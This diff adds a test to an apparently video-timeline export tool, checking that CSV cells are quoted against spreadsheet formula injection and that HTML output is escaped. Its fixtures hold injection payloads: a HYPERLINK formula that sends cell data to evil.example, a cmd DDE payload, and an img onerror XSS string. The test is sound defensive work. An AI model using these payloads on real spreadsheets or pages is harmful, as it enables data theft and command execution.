@@ -169,3 +169,30 @@ def test_back_to_back_windows_at_frame_times_merge_into_one_segment():
     windows = [WindowResult(k * span / fps, (k + 1) * span / fps, probs) for k in range(6)]
     (seg,) = merge_segments(windows, ["Walk", "Wave"], 0.5)
     assert (seg.first, seg.last, seg.start_s, seg.end_s) == (0, 5, 0.0, 6 * span / fps)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_the_json_keeps_the_exact_names(tmp_path):
+    """OWASP's CSV-injection rule on the spreadsheet outputs; the HTML escapes the same names; the JSON (for programs)
+    keeps them exactly."""
+    classes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tTab", "<img src=x onerror=alert(1)>"]
+    video = 'night/=HYPERLINK("x").mp4'
+    windows = []
+    for i, _ in enumerate(classes):
+        p = np.full(len(classes), 0.02, np.float32)
+        p[i] = 1 - 0.02 * (len(classes) - 1)
+        windows.append(WindowResult(float(i), float(i + 1), p))
+    paths = write_timeline(tmp_path, video, classes, windows, k=2, min_prob=0.5, smoothing=1)
+    for kind in ("windows", "segments"):
+        with open(paths[kind], newline="") as fh:
+            rows = list(csv.DictReader(fh))
+        cells = [r["class"] for r in rows]
+        assert set(cells) >= {"'" + c for c in classes[:5]} and classes[5] in cells, cells
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values()), rows
+        assert all(float(r["start_s"]) >= 0 for r in rows)  # numbers stay numbers
+    doc = json.loads(paths["json"].read_text())
+    assert doc["video"] == video and doc["classes"] == classes
+    assert [s["class"] for s in doc["segments"]] == classes
+    page = paths["html"].read_text()
+    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert '=HYPERLINK(&quot;x&quot;).mp4' in page
